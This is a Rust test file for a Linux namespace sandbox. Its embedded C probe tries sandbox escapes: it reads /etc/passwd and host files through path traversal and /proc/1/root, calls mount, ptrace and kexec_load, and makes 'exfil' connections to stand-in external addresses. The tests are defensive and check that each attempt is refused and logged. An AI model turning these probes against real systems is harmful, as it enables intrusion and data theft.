//! The namespace sandbox, exercised with a static probe program compiled here.

mod support;

use ferry_sandbox::sandbox::{NamespaceSandbox, ResourceLimits, Sandbox, SandboxSpec};
use std::path::Path;
use std::time::Duration;

const PROBE_C: &str = r#"
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static void cat(const char *path) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) { printf("open %s: denied (%s)\n", path, strerror(errno)); return; }
  char buf[4096] = {0};
  ssize_t n = read(fd, buf, sizeof buf - 1);
  printf("open %s: READ %s\n", path, n > 0 ? buf : "");
  close(fd);
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  if (argc > 1 && !strcmp(argv[1], "files")) {
    char host[64] = {0};
    gethostname(host, sizeof host - 1);
    printf("pid=%d uid=%d hostname=%s\n", (int)getpid(), (int)getuid(), host);
    int r = open("/rootfs-write.txt", O_WRONLY | O_CREAT, 0644);
    printf("rootfs write: %s\n", r >= 0 ? "ALLOWED" : strerror(errno));
    for (int i = 2; i < argc; i++) cat(argv[i]);
    int w = open("/data/written.txt", O_WRONLY | O_CREAT, 0644);
    printf("data write: %s\n", w >= 0 ? "ok" : strerror(errno));
    int md = mkdir("/stray-dir", 0755);
    printf("rootfs mkdir: %s\n", md == 0 ? "ALLOWED" : strerror(errno));
    int dd = mkdir("/data/newdir", 0755);
    printf("data mkdir: %s\n", dd == 0 ? "ok" : strerror(errno));
    int m = mount("none", "/tmp", "tmpfs", 0, NULL);
    printf("mount: %s\n", m == 0 ? "ALLOWED" : strerror(errno));
    cat("/proc/self/cgroup");
    return 0;
  }
  if (argc > 2 && !strcmp(argv[1], "net")) {
    cat("/proc/net/dev");
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons(atoi(argv[2]));
    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
    int c = connect(s, (struct sockaddr *)&a, sizeof a);
    printf("connect: %s\n", c == 0 ? "CONNECTED" : strerror(errno));
    return 0;
  }
  if (argc > 1 && !strcmp(argv[1], "exfil")) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons(80);
    inet_pton(AF_INET, "203.0.113.7", &a.sin_addr);
    int c = connect(s, (struct sockaddr *)&a, sizeof a);
    printf("connect out: %s\n", c == 0 ? "CONNECTED" : strerror(errno));
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in d = {0};
    d.sin_family = AF_INET;
    d.sin_port = htons(53);
    inet_pton(AF_INET, "198.51.100.9", &d.sin_addr);
    ssize_t n = sendto(u, "hello", 5, 0, (struct sockaddr *)&d, sizeof d);
    printf("sendto out: %s\n", n >= 0 ? "SENT" : strerror(errno));
    struct sockaddr_in l = {0};
    l.sin_family = AF_INET;
    l.sin_port = htons(9);
    inet_pton(AF_INET, "127.0.0.1", &l.sin_addr);
    int s2 = socket(AF_INET, SOCK_STREAM, 0);
    int c2 = connect(s2, (struct sockaddr *)&l, sizeof l);
    printf("connect loopback: %s\n", c2 == 0 ? "CONNECTED" : strerror(errno));
    return 0;
  }
  if (argc > 1 && !strcmp(argv[1], "admin")) {
    long p = ptrace(PTRACE_TRACEME, 0, NULL, NULL);
    printf("ptrace: %s\n", p == 0 ? "ALLOWED" : strerror(errno));
    long k = syscall(SYS_kexec_load, 0x1234UL, 0UL, NULL, 0UL);
    printf("kexec_load: %s\n", k == 0 ? "ALLOWED" : strerror(errno));
    k = syscall(SYS_kexec_load, 0x5678UL, 0UL, NULL, 0UL);
    return 0;
  }
  return 2;
}
"#;

fn rootfs(dir: &Path) -> std::path::PathBuf {
    use std::os::unix::fs::PermissionsExt;
    // The sandbox's root is an unprivileged host uid: it must be able to walk to its tree.
    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    let root = dir.join("rootfs");
    std::fs::create_dir_all(&root).unwrap();
    support::compile_c(&root, "probe", PROBE_C, &["-static", "-O1"]);
    root
}

fn spec(dir: &Path, root: &Path, data: Option<&Path>, argv: &[&str]) -> SandboxSpec {
    SandboxSpec {
        rootfs: root.into(),
        data_dir: data.map(Into::into),
        work_dir: dir.join("work"),
        argv: argv.iter().map(|s| s.to_string()).collect(),
        env: vec![("PATH".into(), "/".into())],
        hostname: "ferry-sbx".into(),
        limits: ResourceLimits::default(),
        stubs: Vec::new(),
    }
}

#[test]
fn sandboxed_process_cannot_read_outside_its_root() {
    let dir = tempfile::tempdir().unwrap();
    let root = rootfs(dir.path());
    let secret = dir.path().join("secret.txt");
    std::fs::write(&secret, "TOPSECRET").unwrap();
    let data = dir.path().join("device-data");
    std::fs::create_dir(&data).unwrap();
    std::fs::write(data.join("config.txt"), "device-data").unwrap();
    let secret_abs = secret.to_str().unwrap().to_string();
    let via_proc = format!("/proc/1/root{secret_abs}");
    let args = [
        "/probe",
        "files",
        &secret_abs,
        "/../../../../../etc/hostname",
        &via_proc,
        "/etc/passwd",
        "/data/config.txt",
    ];
    let sandbox = NamespaceSandbox;
    let child = sandbox
        .start(&spec(dir.path(), &root, Some(&data), &args))
        .unwrap();
    assert!(child.isolation.namespaces.contains(&"net".to_string()));
    let data_copy = child.data_copy.clone().unwrap();
    let cgroup = child.isolation.cgroup.clone();
    println!("{:#?}", child.isolation);
    let (out, report) = child.wait_with_report(Duration::from_secs(30)).unwrap();
    println!("{report:#?}");
    let stdout = String::from_utf8_lossy(&out.stdout);
    println!("{stdout}");
    assert!(
        out.status.success(),
        "{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        stdout.contains("pid=1 uid=0 hostname=ferry-sbx"),
        "{stdout}"
    );
    assert!(
        stdout.contains("rootfs write: Permission denied"),
        "{stdout}"
    );
    assert!(!stdout.contains("TOPSECRET"), "read a host file: {stdout}");
    for path in [
        secret_abs.as_str(),
        "/../../../../../etc/hostname",
        &via_proc,
        "/etc/passwd",
    ] {
        assert!(
            stdout.contains(&format!("open {path}: denied")),
            "{path}: {stdout}"
        );
    }
    assert!(
        stdout.contains("open /data/config.txt: READ device-data"),
        "{stdout}"
    );
    assert!(stdout.contains("data write: ok"));
    assert!(
        stdout.contains("rootfs mkdir: Permission denied"),
        "{stdout}"
    );
    assert!(stdout.contains("data mkdir: ok"), "{stdout}");
    assert!(
        data_copy.join("written.txt").exists(),
        "writes land in the copy"
    );
    assert!(
        !data.join("written.txt").exists(),
        "the device's data is never written"
    );
    assert!(
        stdout.contains("mount: Operation not permitted"),
        "seccomp must refuse mount: {stdout}"
    );
    if cgroup.starts_with('v') {
        assert!(
            stdout.contains("ferry-sandbox-"),
            "the process runs in its cgroup ({cgroup}): {stdout}"
        );
        assert!(
            report.peak_memory_bytes.is_some_and(|b| b > 0),
            "{report:#?}"
        );
    }
    // The monitor saw the refused mount and the write attempt on the root filesystem, and
    // nothing of the writes to /data.
    assert_eq!(report.monitor_error, None);
    let mount = report
        .denied_syscalls
        .iter()
        .find(|d| d.name == "mount")
        .unwrap_or_else(|| panic!("mount not recorded: {report:#?}"));
    assert_eq!(mount.count, 1);
    let stray: Vec<&str> = report
        .stray_writes
        .iter()
        .map(|w| w.path.as_str())
        .collect();
    assert_eq!(stray, ["/rootfs-write.txt", "/stray-dir"], "{report:#?}");
    assert_eq!(report.exit.as_deref(), Some("exited with status 0"));
    assert!(!report.crashed);
    assert!(report.is_suspicious(), "a stray write is suspicious");
}

#[test]
fn outbound_connection_attempts_are_recorded_with_their_address_and_refused() {
    let dir = tempfile::tempdir().unwrap();
    let root = rootfs(dir.path());
    let child = NamespaceSandbox
        .start(&spec(dir.path(), &root, None, &["/probe", "exfil"]))
        .unwrap();
    let (out, report) = child.wait_with_report(Duration::from_secs(30)).unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    println!("{stdout}\n{report:#?}");
    assert!(out.status.success(), "{stdout}");
    assert!(
        stdout.contains("connect out: Connection refused"),
        "the program gets an error: {stdout}"
    );
    assert!(
        stdout.contains("sendto out: Network is unreachable"),
        "{stdout}"
    );
    // Loopback goes ahead (nothing listens there: refused by the kernel, not recorded).
    assert!(
        stdout.contains("connect loopback: Connection refused"),
        "{stdout}"
    );
    let seen: Vec<(&str, &str, u64, u64)> = report
        .outbound
        .iter()
        .map(|o| (o.syscall.as_str(), o.address.as_str(), o.count, o.bytes))
        .collect();
    assert_eq!(
        seen,
        [
            ("connect", "203.0.113.7:80", 1, 0),
            ("sendto", "198.51.100.9:53", 1, 5)
        ],
        "{report:#?}"
    );
    assert!(report.is_suspicious());
}

#[test]
fn refused_system_calls_are_recorded_with_count_and_first_arguments() {
    let dir = tempfile::tempdir().unwrap();
    let root = rootfs(dir.path());
    let child = NamespaceSandbox
        .start(&spec(dir.path(), &root, None, &["/probe", "admin"]))
        .unwrap();
    let (out, report) = child.wait_with_report(Duration::from_secs(30)).unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    println!("{stdout}\n{report:#?}");
    assert!(
        stdout.contains("ptrace: Operation not permitted"),
        "{stdout}"
    );
    assert!(
        stdout.contains("kexec_load: Operation not permitted"),
        "{stdout}"
    );
    let kexec = report
        .denied_syscalls
        .iter()
        .find(|d| d.name == "kexec_load")
        .unwrap_or_else(|| panic!("kexec_load not recorded: {report:#?}"));
    assert_eq!(kexec.count, 2);
    assert_eq!(kexec.first_args[0], "0x1234");
    assert!(
        report.denied_syscalls.iter().any(|d| d.name == "ptrace"),
        "{report:#?}"
    );
    assert!(
        report.outbound.is_empty() && report.stray_writes.is_empty(),
        "{report:#?}"
    );
    assert!(
        !report.is_suspicious(),
        "refused calls alone are not unsafe"
    );
}

/// busybox (static) for shell scripts in a sandbox; `None` (with a loud message) where it is
/// missing, a failure when FERRY_REQUIRE_SERVICES=1.
fn busybox() -> Option<std::path::PathBuf> {
    let path = std::path::PathBuf::from("/bin/busybox");
    let static_elf = std::fs::read(&path).is_ok_and(|bytes| {
        goblin::elf::Elf::parse(&bytes).is_ok_and(|elf| elf.interpreter.is_none())
    });
    if path.exists() && static_elf {
        return Some(path);
    }
    let msg = "a static /bin/busybox is needed (apt-get install busybox-static)";
    if std::env::var("FERRY_REQUIRE_SERVICES").as_deref() == Ok("1") {
        panic!("{msg}");
    }
    eprintln!("SKIPPED: {msg}");
    None
}

#[test]
fn stub_hardware_shows_the_host_what_a_shell_script_did() {
    use ferry_sandbox::sandbox::HardwareStub;
    let Some(bb) = busybox() else { return };
    let dir = tempfile::tempdir().unwrap();
    let root = rootfs(dir.path());
    std::fs::create_dir_all(root.join("bin")).unwrap();
    std::fs::copy(&bb, root.join("bin/busybox")).unwrap();
    let script = "echo hello-uart > /dev/ttyS0; \
                  echo out > /sys/class/gpio/gpio17/direction; \
                  echo 1 > /sys/class/gpio/gpio17/value; \
                  echo 0 > /sys/class/gpio/gpio17/value; \
                  echo 1 > /sys/class/gpio/gpio17/value; \
                  echo 255 > /sys/class/leds/status/brightness; \
                  echo ABCD | /bin/busybox dd of=/dev/mtd0 conv=notrunc 2>/dev/null; \
                  cat /sys/class/gpio/gpio17/value; \
                  exec 3<>/dev/ttyS1; printf ping >&3; /bin/busybox head -c 4 <&3";
    let mut s = spec(
        dir.path(),
        &root,
        None,
        &["/bin/busybox", "sh", "-c", script],
    );
    s.stubs = vec![
        HardwareStub::Serial {
            path: "/dev/ttyS0".into(),
            echo: false,
        },
        HardwareStub::Serial {
            path: "/dev/ttyS1".into(),
            echo: true,
        },
        HardwareStub::Gpio { pins: vec![17, 18] },
        HardwareStub::Led {
            names: vec!["status".into()],
        },
        HardwareStub::File {
            path: "/dev/mtd0".into(),
            size: 4096,
        },
    ];
    let child = NamespaceSandbox.start(&s).unwrap();
    let monitor = child.monitor().unwrap();
    let (out, _) = child.wait_with_report(Duration::from_secs(30)).unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        stdout.trim(),
        "1\nping",
        "the script reads back its GPIO, and its echo from the loopback serial port"
    );
    // The host side of the serial port reads asynchronously: give it a moment.
    let deadline = std::time::Instant::now() + Duration::from_secs(5);
    let report = loop {
        let r = monitor.report();
        if r.stubs.serial.first().is_some_and(|s| s.bytes >= 11)
            || std::time::Instant::now() > deadline
        {
            break r;
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    println!("{report:#?}");
    let serial = &report.stubs.serial[0];
    assert_eq!(serial.path, "/dev/ttyS0");
    assert!(serial.output.contains("hello-uart"), "{serial:?}");
    assert_eq!(report.stubs.serial[1].output, "ping");
    let changes: Vec<(&str, &str)> = report
        .stubs
        .attributes
        .iter()
        .map(|c| (c.path.as_str(), c.value.as_str()))
        .collect();
    assert_eq!(
        changes,
        [
            ("/sys/class/gpio/gpio17/direction", "out"),
            ("/sys/class/gpio/gpio17/value", "1"),
            ("/sys/class/gpio/gpio17/value", "0"),
            ("/sys/class/gpio/gpio17/value", "1"),
            ("/sys/class/leds/status/brightness", "255"),
        ]
    );
    assert_eq!(report.stubs.files[0].path, "/dev/mtd0");
    assert_eq!(report.stubs.files[0].size, 4096);
    assert_eq!(report.stubs.files[0].bytes_changed, 5, "ABCD and a newline");
    assert!(
        report.stray_writes.is_empty(),
        "stub writes are not stray: {report:#?}"
    );
}

#[test]
fn sandboxed_process_cannot_reach_the_network() {
    let dir = tempfile::tempdir().unwrap();
    let root = rootfs(dir.path());
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    let started = std::time::Instant::now();
    let child = NamespaceSandbox
        .start(&spec(dir.path(), &root, None, &["/probe", "net", &port]))
        .unwrap();
    println!("sandbox started (PID 1 exec'd) in {:?}", started.elapsed());
    let out = child.wait_with_output(Duration::from_secs(30)).unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout.contains("connect: Connection refused"), "{stdout}");
    let interfaces: Vec<&str> = stdout
        .lines()
        .filter_map(|l| l.trim().split_once(':').map(|(name, _)| name.trim()))
        .filter(|n| !n.is_empty() && !n.contains(' ') && !n.starts_with("open") && *n != "connect")
        .collect();
    assert_eq!(interfaces, ["lo"], "only its own loopback exists: {stdout}");
    assert!(
        listener.accept().is_err(),
        "the host's listener must see no connection"
    );
}

#[test]
fn a_sandbox_that_runs_too_long_is_killed() {
    let dir = tempfile::tempdir().unwrap();
    let root = rootfs(dir.path());
    support::compile_c(&root, "spin", "int main(void){for(;;){}}", &["-static"]);
    let child = NamespaceSandbox
        .start(&spec(dir.path(), &root, None, &["/spin"]))
        .unwrap();
    let err = child
        .wait_with_output(Duration::from_millis(300))
        .unwrap_err();
    assert!(err.to_string().contains("ran longer than"), "{err}");
    // Nothing of the sandbox survives: no live `spin` process of the sandbox's uid is left
    // (an exited PID 1 may linger as a zombie until the host's init reaps it).
    std::thread::sleep(Duration::from_millis(100));
    let uid_line = format!("Uid:\t{}\t", ferry_sandbox::sandbox::ID_BASE);
    let survivors: Vec<String> = std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| {
            let comm = std::fs::read_to_string(e.path().join("comm")).unwrap_or_default();
            let status = std::fs::read_to_string(e.path().join("status")).unwrap_or_default();
            let zombie = status.contains("State:\tZ");
            comm.trim() == "spin" && status.contains(&uid_line) && !zombie
        })
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        survivors.is_empty(),
        "sandbox processes survived: {survivors:?}"
    );
}

#[test]
fn a_root_the_sandbox_cannot_reach_is_refused_with_the_reason() {
    let dir = tempfile::tempdir().unwrap();
    let root = rootfs(dir.path());
    let hidden = dir.path().join("private");
    std::fs::create_dir(&hidden).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&hidden, std::fs::Permissions::from_mode(0o700)).unwrap();
    let moved = hidden.join("rootfs");
    std::fs::rename(&root, &moved).unwrap();
    let err = NamespaceSandbox
        .start(&spec(dir.path(), &moved, None, &["/probe", "files"]))
        .unwrap_err();
    assert!(
        err.to_string().contains("not searchable by others"),
        "{err}"
    );
}

#[test]
fn net_namespace_is_the_sandboxes_own_not_the_hosts() {
    let dir = tempfile::tempdir().unwrap();
    let root = rootfs(dir.path());
    support::compile_c(&root, "spin", "int main(void){for(;;){}}", &["-static"]);
    let mut child = NamespaceSandbox
        .start(&spec(dir.path(), &root, None, &["/spin"]))
        .unwrap();
    let ns = child.net_namespace().unwrap();
    let theirs = std::fs::read_link(&ns).unwrap();
    let ours = std::fs::read_link("/proc/self/ns/net").unwrap();
    assert_ne!(
        theirs,
        ours,
        "{} is the host's network namespace",
        ns.display()
    );
    assert!(theirs.to_string_lossy().starts_with("net:["), "{theirs:?}");
    // The sandboxed command itself (PID 1 inside) is in that namespace.
    let outer = child.pid();
    let b = std::fs::read_to_string(format!("/proc/{outer}/task/{outer}/children")).unwrap();
    let b = b.split_whitespace().next().unwrap().to_string();
    let c = std::fs::read_to_string(format!("/proc/{b}/task/{b}/children")).unwrap();
    let c = c.split_whitespace().next().unwrap().to_string();
    assert_eq!(
        std::fs::read_link(format!("/proc/{c}/ns/net")).unwrap(),
        theirs
    );
    child.kill().unwrap();
}
